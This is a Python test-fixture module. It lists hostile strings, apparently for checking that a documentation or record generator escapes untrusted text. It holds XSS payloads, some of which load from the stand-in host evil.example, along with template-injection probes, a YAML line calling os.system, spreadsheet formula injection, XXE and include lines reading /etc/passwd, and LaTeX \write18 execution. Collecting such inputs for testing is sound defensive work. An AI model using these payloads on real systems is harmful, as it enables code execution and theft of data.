"""Texts and addresses of strangers that would do something, were they not shown as what they are.

What calls `hit` has run; what leads to `evil.example` has asked another host.
"""

from __future__ import annotations

import json

SCRIPTS = (
    "<script>hit()</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "</title><script>hit()</script>",
    "</textarea></style></noscript></template><script>hit()</script>",
    "--><script>hit()</script><!--",
    "]]><script>hit()</script>",
    "</script><script>hit()</script>",
    "<!--<script>hit()//-->",
    '"><img src=x onerror=hit()>',
    "' onfocus='hit()' autofocus='",
    '" onfocus="hit()" autofocus="',
    "` onmouseover=`hit()`",
    "<img src=https://evil.example/p.gif onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><use href=data:image/svg+xml,a#x></svg>",
    '<math><mtext></form><form><mglyph><style></math><img src onerror="hit()">',
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=https://evil.example/a></object><embed src=https://evil.example/b>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<form action=https://evil.example/><input name=a autofocus onfocus=hit()></form>",
    "<details open ontoggle=hit()>",
    "<body onload=hit()>",
    "<video src=x onerror=hit()></video><audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<a href=javascript:hit()>a</a>",
    "<a id=__config name=defaultView>a</a>",
    "<x style=animation-name:x onanimationstart=hit()>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "%3Cscript%3Ehit()%3C/script%3E",
)
"""What runs, or asks another host, where it stands in a page as it is."""

MARKDOWN = (
    "[a](javascript:hit())",
    "[a](JaVaScRiPt&#58;hit())",
    "[a]( data:text/html,<script>hit()</script> )",
    "![a](https://evil.example/p.gif)",
    '![a](x "onerror=hit()")',
    "<https://evil.example/>",
    "<javascript:hit()>",
    "[a]: javascript:hit() 'a'",
    "[a][a] [^a]: b",
    "# a { onclick=hit() }",
    "a{: onmouseover='hit()' #__config .md-x }",
    "{: style='position:fixed;inset:0' }",
    "!!! note\n    a",
    "???+ note\n    a",
    '=== "a"',
    '--8<-- "/etc/passwd"',
    "--8<--\n/etc/passwd\n--8<--",
    "[[a]] [[a|b]]",
    "*[a]: b",
    ":material-home:{ .x }",
    "``` {.python onload=hit()}\na\n```",
    "$$\\href{javascript:hit()}{a}$$",
    "| a | b |\n|---|---|\n| <b> | c |",
    "- [x] a\n1. b\n> c",
    "a\n===\n\nb\n---\n\n    code",
    "\\<script\\>hit()\\</script\\>",
    "[TOC]",
    "wzxhzdk:0 \x02wzxhzdk:0\x03 klzzwxh:0001",
)
"""What Markdown and its extensions would make something of."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{# a #}",
    "{%- raw -%}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7)",
    "{0} {n} {title} {0.__class__}",
    "%(title)s %s %d",
    "{site}",
)
"""What a template engine, or a formatting function, would fill in."""

FRONT_MATTER = (
    "---\ntitle: other\n---",
    "a\n---\n<script>hit()</script>",
    "a: b: c",
    "a # b",
    "- a",
    "@a `b` %c !d &e *f",
    "'a\" b",
    "title: a\nhide: [navigation]",
    "...",
    "!!python/object/apply:os.system [id]",
)
"""What could end the front matter of a page, or be more of it."""

FILES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1",
    "＝1＋1",
    'a","b\n"c',
    "a;b,c\td|e",
    "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b",
    "a\\nb\\,c\\;d\\\\",
    "TY  - BOOK\r\nER  - ",
    "a}, title={b}, note={\\input{/etc/passwd}}",
    "\\write18{id} $x$ 50% a_b #1 ~ ^",
    "@misc{a, title={b}}",
    "a ]]> b <![CDATA[ c",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "}} {{subst:a}} {{cite web|url=https://evil.example/}} [[Category:a]] <ref>a</ref>",
    "a | b = c",
    '{"@context": "https://evil.example/"}',
    "</script><!--",
)
"""What files for reuse could be broken with: tables, calendars, references, feeds, wikitext."""

ODD = (
    "__proto__",
    "constructor",
    "NaN",
    "null",
    "x" * 1200,
    "mot " * 300,
    "ص" * 1200,
    "-" * 80,
    "1.",
    "\u202egnp.exe\u202c a",
    "a\u2066b\u2069\u200b\u200d\ufeff c",
    "e" + "\u0301" * 60,
    "\U000e0041\U000e0042 a",
    "a\x00b\x1b[31mc\x7f",
    "a\ufffe\uffffb",
    "نص [رابط](javascript:hit()) <b>غليظ</b>",
)
"""What programs take for something else, or cannot hold, or that fills a line."""

TEXTS = (*SCRIPTS, *MARKDOWN, *TEMPLATES, *FRONT_MATTER, *FILES, *ODD)

ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "javascript://example.org/%0ahit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "file:///etc/passwd",
    '"><script>hit()</script>',
    "' onclick=hit() '",
    "//evil.example/",
    "https://example.org/](javascript:hit())",
    'https://example.org/" onclick="hit()',
    "https://user:word@example.org/",
    "{{ 7 * 7 }}",
)
"""Addresses that no record could have."""


def yaml(text: str) -> str:
    """A record that says `text` wherever it can, as YAML: for a past that nobody checked."""
    both = {"en": text, "ar": text}
    cite = {"source": "northern-gazette", "says": "attributes", "to": both, "note": both}
    value = {
        "title": both,
        "date": "2001",
        "topics": ["trade"],
        "summary": both,
        "claims": [{"id": "one-claim", "text": both, "cites": [cite]}],
        "differences": [
            {
                "about": both,
                "positions": [{"text": both, "sources": ["northern-gazette"]}] * 2,
                "decision": both,
            }
        ],
        "sought": [{"what": both, "date": "2020-01-01", "found": "nothing"}],
        text[:40] or "a": text,
    }
    return json.dumps(value, ensure_ascii=True)
